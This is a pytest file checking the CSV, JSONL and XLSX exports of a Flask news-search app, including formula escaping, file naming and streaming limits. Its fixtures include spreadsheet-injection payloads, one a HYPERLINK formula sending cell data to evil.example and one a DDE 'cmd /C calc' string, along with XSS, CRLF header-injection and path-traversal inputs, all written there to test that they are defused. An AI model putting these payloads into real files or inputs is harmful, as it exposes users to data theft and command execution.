"""Tests of files of a whole result: their content, their headers, and what they take while they are sent."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from indexer.article import Article
from indexer.store import IndexFolder
from searchapp import open_engine
from searchapp.web import create_app
from searchapp.web.exports.csv_file import csv_file, harmless
from searchapp.web.exports.downloads import LARGE_AT_ONCE, disposition
from searchapp.web.exports.table import LEAD, MAX_TEXT, Table, lead
from tests.conftest import MakeIndex
from tests.indexer.articles import commit, tiny
from tests.searchapp.web.exported import AWKWARD, HEADINGS, application, read_csv, read_sheets

ADDRESS = "http://localhost/articles/"


@pytest.fixture
def awkward(make_index: MakeIndex) -> FlaskClient:
    return application(make_index, AWKWARD).test_client()


def table(address: str = ADDRESS) -> Table:
    return Table("Bài viết", HEADINGS, "[cắt]", lambda article_id: address + article_id)


def test_a_csv_file_has_a_line_for_each_article_in_the_order_of_the_search(awkward: FlaskClient) -> None:
    assert read_csv(awkward.get("/search.csv").data) == [
        [*HEADINGS],
        [
            "an-hoa/1",
            'Hội nghị "giao ban", quý I; tổ 3',
            "2024-01-12 16:28:00",
            "UBND quận An Hòa; HĐND quận An Hòa",
            "Tin tức",
            "1/QĐ-UBND; 2/KH-UBND",
            "T.V.A",
            "Cổng thông tin",
            "https://anhoa.example.vn/tin?x=1&y=2",
            f"{ADDRESS}an-hoa/1",
            "Sáng nay, quận họp. Chiều nay, phường họp.",
        ],
        [
            "'=1+1",
            '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
            "2024-01-11",
            "'-2+3; khác",
            "'+1",
            "",
            "'\t=1",
            "'\r=1",
            "'＝1",
            f"{ADDRESS}=1+1",
            "'@SUM(1+9)*cmd|' /C calc'!A0",
        ],
        ["tran", "Chỉ có tiêu đề", "2020-02-29", "", "", "", "", "", "", f"{ADDRESS}tran", ""],
        [
            "a<b>&'\"/?#%",
            "<r><t>&lt;chữ&gt;</t></r>",
            "1899-12-31",
            "<r></r>",
            "Mục & <i>mục</i>",
            "",
            "",
            "",
            "javascript:alert(1)",
            f"{ADDRESS}a%3Cb%3E&'%22/%3F%23%25",
            "<script>alert(1)</script> ]]> <b>đậm</b> & _x0041_ 😀",
        ],
        [
            "kiem-soat",
            "mộthaibabốn\x7fnămsáubảy",
            "",
            "",
            "ab",
            "",
            "",
            "",
            "",
            f"{ADDRESS}kiem-soat",
            "chỉ có điều khiển [31m",
        ],
    ]


def test_lines_of_a_csv_file_end_as_the_standard_says(awkward: FlaskClient) -> None:
    answer = awkward.get("/search.csv?q=giao+ban")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    head, line, rest = answer.data.removeprefix(b"\xef\xbb\xbf").decode().split("\r\n")
    assert head == ",".join(HEADINGS)
    assert line.startswith('an-hoa/1,"Hội nghị ""giao ban"", quý I; tổ 3",2024-01-12 16:28:00,')
    assert rest == ""


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("", ""),
        ("1=1", "1=1"),
        ("a-b", "a-b"),
        ("'=1", "'=1"),
        ("Độ", "Độ"),
        ("Đo\u0302\u0323", "Đo\u0302\u0323"),
        ("12/01/2024", "12/01/2024"),
    ],
)
def test_no_cell_begins_like_a_formula(text: str, written: str) -> None:
    assert harmless(text) == written


def test_json_lines_have_articles_as_the_api_gives_them(awkward: FlaskClient) -> None:
    answer = awkward.get("/search.jsonl")
    assert answer.headers["Content-Type"] == "application/x-ndjson"
    expected = []
    for article in AWKWARD:
        record = article.as_json()
        del record["origin"]
        expected.append(record)
    assert answer.data.endswith(b"\n")
    assert [json.loads(line) for line in answer.data.splitlines()] == expected
    assert awkward.get("/api/v1/articles/an-hoa/1").get_json() == expected[0]


def test_a_workbook_has_texts_as_texts_and_dates_as_dates(awkward: FlaskClient) -> None:
    sheets = read_sheets(awkward.get("/search.xlsx").data)
    assert [*sheets] == ["Bài viết"]
    none = (None,) * 5
    assert (
        sheets["Bài viết"]
        == [
            HEADINGS,
            (
                "an-hoa/1",
                'Hội nghị "giao ban", quý I; tổ 3',
                datetime(2024, 1, 12, 16, 28),  # noqa: DTZ001
                "UBND quận An Hòa; HĐND quận An Hòa",
                "Tin tức",
                "1/QĐ-UBND; 2/KH-UBND",
                "T.V.A",
                "Cổng thông tin",
                "https://anhoa.example.vn/tin?x=1&y=2",
                f"{ADDRESS}an-hoa/1",
                "Sáng nay, quận họp. Chiều nay, phường họp.",
            ),
            (
                "=1+1",
                '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
                datetime(2024, 1, 11),  # noqa: DTZ001
                "-2+3; khác",
                "+1",
                None,
                "\t=1",
                "_x000D_=1",  # which Excel, unlike the reader here, takes for the carriage return
                "＝1",
                f"{ADDRESS}=1+1",
                "@SUM(1+9)*cmd|' /C calc'!A0",
            ),
            ("tran", "Chỉ có tiêu đề", datetime(2020, 2, 29), None, *none, f"{ADDRESS}tran", None),  # noqa: DTZ001
            (
                "a<b>&'\"/?#%",
                "<r><t>&lt;chữ&gt;</t></r> ",
                "1899-12-31",
                "<r></r> ",
                "Mục & <i>mục</i>",
                None,
                None,
                None,
                "javascript:alert(1)",
                f"{ADDRESS}a%3Cb%3E&'%22/%3F%23%25",
                "<script>alert(1)</script> ]]> <b>đậm</b> & _x005F_x0041_ 😀",  # as above
            ),
            (
                "kiem-soat",
                "mộthaibabốn\x7fnămsáubảy",
                None,
                None,
                "ab",
                *none[:4],
                f"{ADDRESS}kiem-soat",
                "chỉ có điều khiển [31m",
            ),
        ]
    )


def test_the_file_of_a_search_has_what_the_search_finds(awkward: FlaskClient) -> None:
    rows = read_csv(awkward.get("/search.csv?q=giao+ban&agency=HĐND+quận+An+Hòa&page=7&per_page=50").data)
    assert [row[0] for row in rows[1:]] == ["an-hoa/1"]
    assert read_csv(awkward.get("/search.csv?q=khôngcógì").data) == [[*HEADINGS]]


def test_headings_are_in_the_language_of_the_page(awkward: FlaskClient) -> None:
    headings = read_csv(awkward.get("/search.csv?lang=en&q=giao+ban").data)[0]
    assert headings[1] == "Title"
    assert not set(headings) & set(HEADINGS)


@pytest.mark.parametrize(
    ("subject", "value"),
    [
        ("", "attachment; filename=\"tin-chinh-quyen.csv\"; filename*=UTF-8''tin-chinh-quyen.csv"),
        (
            "Hội nghị/Độ",
            'attachment; filename="hoi-nghi-do.csv"; '
            "filename*=UTF-8''H%E1%BB%99i-ngh%E1%BB%8B-%C4%90%E1%BB%99.csv",
        ),
        ('../a"b\r\nc: d', "attachment; filename=\"a-b-c-d.csv\"; filename*=UTF-8''a-b-c-d.csv"),
        ("日本", "attachment; filename=\"tin-chinh-quyen.csv\"; filename*=UTF-8''%E6%97%A5%E6%9C%AC.csv"),
        ("a" * 90, f"attachment; filename=\"{'a' * 60}.csv\"; filename*=UTF-8''{'a' * 60}.csv"),
    ],
)
def test_files_are_named_after_what_they_are_about(subject: str, value: str) -> None:
    assert disposition(subject, "csv") == value


def test_the_name_of_a_file_tells_the_search(awkward: FlaskClient) -> None:
    answer = awkward.get("/search.xlsx?q=họp&agency=UBND+quận+An+Hòa&date=2024-01")
    assert answer.headers["Content-Disposition"].startswith(
        'attachment; filename="hop-ubnd-quan-an-hoa-thang-1-2024.xlsx"; '
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert answer.headers["Content-Type"] == kind


@pytest.mark.parametrize("ending", ["csv", "jsonl", "xlsx"])
def test_faults_are_said_in_plain_text(client: FlaskClient, ending: str) -> None:
    answer = client.get(f"/search.{ending}?from=31/02/2024&sort=x&colour=red&page=x&lang=vi")
    assert (answer.status_code, answer.headers["Content-Type"]) == (400, "text/plain; charset=utf-8")
    assert "Content-Disposition" not in answer.headers
    lines = answer.get_data(as_text=True).splitlines()
    assert lines == [
        "Có chỗ cần sửa trong yêu cầu tìm kiếm:",
        "- Từ ngày (from): Lịch không có ngày “31/02/2024”. Hãy kiểm tra lại ngày và tháng.",
        "- Sắp xếp (sort): “x” không phải là một lựa chọn. Hãy chọn lại bên dưới.",
        "- colour: không có tham số này.",
    ]


def test_json_is_the_answer_of_the_api(client: FlaskClient) -> None:
    for query in ("q=giao+ban&page=2&sort=oldest", "sort=x"):
        one, other = client.get(f"/search.json?{query}"), client.get(f"/api/v1/search?{query}")
        assert (one.status_code, one.headers["Content-Type"]) == (
            other.status_code,
            other.headers["Content-Type"],
        )
        found, expected = one.get_json(), other.get_json()
        for answer in (found, expected):
            answer.pop("took_ms", None)
        assert found == expected


@pytest.mark.parametrize(
    ("text", "length", "begins"),
    [
        ("", 5, ""),
        ("ngắn", 5, "ngắn"),
        ("một  hai\nba", 20, "một hai ba"),
        ("một hai ba", 7, "một hai…"),
        ("một hai ba", 6, "một…"),
        ("mo\u0302\u0323t hai", 5, "mo\u0302\u0323t…"),
        ("Độđộ" * 5, 4, "Độđộ…"),
    ],
)
def test_a_lead_ends_with_a_whole_word(text: str, length: int, begins: str) -> None:
    assert lead(text, length) == begins


def test_a_cell_holds_what_excel_can_hold_and_says_what_was_cut() -> None:
    titles = ["a" * (MAX_TEXT - 1), "a" * (MAX_TEXT + 1), "😀" * MAX_TEXT, "=" + "a" * MAX_TEXT]
    made = [str(table().cells(Article(id="x", title=title, body=""))[1]) for title in titles]
    assert made == [
        titles[0],
        "a" * (MAX_TEXT - 1 - 5) + "[cắt]",
        "😀" * ((MAX_TEXT - 1 - 5) // 2) + "[cắt]",
        "=" + "a" * (MAX_TEXT - 2 - 5) + "[cắt]",
    ]
    assert all(len(harmless(text).encode("utf-16-le")) // 2 <= MAX_TEXT for text in made)
    assert len(str(table().cells(Article(id="x", title="", body="từ " * LEAD))[-1])) <= LEAD + 1


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> Flask:
    path: Path = tmp_path_factory.mktemp("many")
    commit(IndexFolder(path), [tiny(number) for number in range(20_000)])
    return create_app(open_engine(path))


@pytest.mark.parametrize("ending", ["csv", "jsonl", "xlsx"])
def test_memory_does_not_grow_with_the_result(many: Flask, ending: str) -> None:
    client = many.test_client()
    client.get(f"/search.{ending}?q=t3").get_data()
    tracemalloc.start()
    try:
        answer = client.get(f"/search.{ending}", buffered=False)
        size = sum(map(len, answer.response))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        answer.close()
    assert size > (300_000 if ending == "xlsx" else 1_000_000)
    assert peak < 3_500_000


def test_articles_are_read_as_far_as_the_file_is_taken() -> None:
    read = 0

    def articles() -> Iterator[Article]:
        nonlocal read
        for number in range(100_000):
            read += 1
            yield tiny(number)

    parts = csv_file(articles(), table())
    for _ in range(3):
        next(parts)
    assert 0 < read < 5_000


def test_too_many_large_files_at_once_are_asked_to_come_back(many: Flask) -> None:
    client = many.test_client()
    begun = [client.get("/search.csv", buffered=False) for _ in range(LARGE_AT_ONCE)]
    assert [answer.status_code for answer in begun] == [200] * LARGE_AT_ONCE
    refused = client.get("/search.csv")
    assert (refused.status_code, refused.headers["Retry-After"]) == (503, "30")
    assert refused.get_data(as_text=True) == "Đang có nhiều tệp được tạo. Hãy thử lại sau ít phút.\n"
    assert client.get("/search.csv?q=t19999").status_code == 200  # a small one finds a place always
    assert client.get("/search?q=t1").status_code == 200
    next(iter(begun[0].response))
    begun[0].close()  # its reader went away
    with client.get("/search.jsonl", buffered=False) as answer:
        assert answer.status_code == 200
    for answer in begun:
        answer.close()


def test_no_place_is_lost_however_files_are_asked_for(many: Flask) -> None:
    client = many.test_client()
    for _ in range(LARGE_AT_ONCE + 1):
        with client.head("/search.csv") as head:
            assert head.status_code == 200
        with client.get("/search.csv") as begun:  # nothing of it is taken
            assert begun.status_code == 200
            begun.close()
        with client.get("/search.csv", headers={"If-None-Match": "*"}) as kept:
            assert kept.status_code in (200, 304)
    with client.get("/search.csv") as whole:
        assert len(whole.data.splitlines()) == 20_001


@pytest.mark.parametrize(
    "value",
    ["%00", "%ff%fe", "%ED%A0%80", "%0d%0aSet-Cookie:%20a=b", "=1", '"', "<b>", "đ" * 2000, "%F0%9F%98%80"],
)
def test_no_text_whatever_makes_an_export_fail(awkward: FlaskClient, value: str) -> None:
    for form in (".csv", ".jsonl", ".xlsx", ".json", ".atom", ".feed.json", "/print"):
        for name in ("q", "agency", "category"):
            answer = awkward.get(f"/search{form}?{name}={value}")
            assert answer.status_code == 200
            assert "Set-Cookie" not in answer.headers
    for form in ("", ".csv", ".jsonl", ".xlsx", "/print"):
        answer = awkward.get(f"/selection{form}?id={value}&id=an-hoa/1")
        assert answer.status_code == 200
        assert "Set-Cookie" not in answer.headers
